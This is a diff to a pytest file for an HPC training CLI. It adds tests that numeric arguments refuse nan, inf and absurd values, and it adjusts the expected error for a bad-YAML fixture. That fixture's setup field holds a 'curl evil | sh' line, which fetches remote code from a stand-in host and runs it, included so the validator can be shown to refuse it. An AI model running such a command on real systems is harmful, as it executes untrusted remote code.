@@ -133,7 +133,7 @@ BAD_FILES: dict[str, tuple[bytes | None, tuple[str, ...]]] = {
     ),
     "setup-chain": (
         b"name: a\ndata: {root: /d}\nsetup: ['module load cuda && curl evil | sh']\n",
-        ("bad.yaml:3:1: setup:", "one command"),
+        ("bad.yaml:3:9: setup.0:", "one command"),
     ),
 }
 
@@ -492,3 +492,49 @@ def test_hostile_yaml_is_refused_fast_by_every_spec_reader(tmp_path: Path, env: 
     assert_user_error(results["deep"], 2, "nested too deeply")
     assert_user_error(results["fifo"], 2, "not a regular file")
     assert_user_error(results["zero"], 2, "not a regular file")
+
+
+# ---------------------------------------------------------------- numeric arguments (issue 19)
+
+NUMBER_CASES = [
+    (["bench-data", "x.yaml", "--demand", "nan"], "--demand", "above 0 and at most 1e+06"),
+    (["bench-data", "x.yaml", "--demand", "-5"], "--demand", "above 0"),
+    (["bench-data", "x.yaml", "--demand", "inf"], "--demand", "out of range"),
+    (["bench-data", "x.yaml", "--seconds", "0"], "--seconds", "1 to 3600 seconds"),
+    (["bench-data", "x.yaml", "--seconds", "nan"], "--seconds", "1 to 3600 seconds"),
+    (["bench-data", "x.yaml", "--max-files", "0"], "--max-files", "from 1 to 1,000,000"),
+    (["bench-data", "x.yaml", "--timeout", "1e308"], "--timeout", "60 to 86400 seconds"),
+    (["status", "r", "--watch", "--interval", "nan"], "--interval", "2 to 3600 seconds"),
+    (["status", "r", "--watch", "--interval", "-1"], "--interval", "2 to 3600 seconds"),
+    (["logs", "r", "--rank", "99999999999"], "--rank", "from 0 to 1,048,575"),
+    (["logs", "r", "-n", "1e9"], "--lines", "not a whole number"),
+    (["cancel", "r", "--timeout", "inf"], "--timeout", "0 to 86400 seconds"),
+    (["rehearse", "x.yaml", "--timeout", "-3"], "--timeout", "1 to 604800 seconds"),
+    (["doctor", "--probe-timeout", "nan"], "--probe-timeout", "1 to 86400 seconds"),
+    (["schema", "--indent", "100000"], "--indent", "from 0 to 16"),
+]
+
+
+@pytest.mark.parametrize(("argv", "flag", "needle"), NUMBER_CASES, ids=[" ".join(c[0][::2]) for c in NUMBER_CASES])
+def test_every_numeric_argument_refuses_nan_inf_and_absurd_values(
+    capsys: pytest.CaptureFixture[str], argv: list[str], flag: str, needle: str
+) -> None:
+    """Each is refused while parsing: exit 2, one error line naming the flag and the range, no traceback."""
+    from hpctrain.cli.main import parse
+
+    with pytest.raises(SystemExit) as info:
+        parse(argv)
+    err = capsys.readouterr().err
+    assert info.value.code == 2 and "Traceback" not in err
+    error_line = err.strip().splitlines()[-1]
+    assert error_line.startswith(f"hpctrain {argv[0]}: error: argument ") and flag in error_line
+    assert needle in error_line, error_line
+
+
+def test_numeric_arguments_in_range_still_parse() -> None:
+    from hpctrain.cli.main import parse
+
+    args = parse(["bench-data", "x.yaml", "--demand", "1500.5", "--seconds", "2", "--max-files", "10"])
+    assert (args.demand, args.seconds, args.max_files) == (1500.5, 2.0, 10)
+    assert parse(["cancel", "r", "--timeout", "0"]).timeout == 0.0
+    assert parse(["logs", "r", "-n", "0", "--rank", "1048575"]).lines == 0
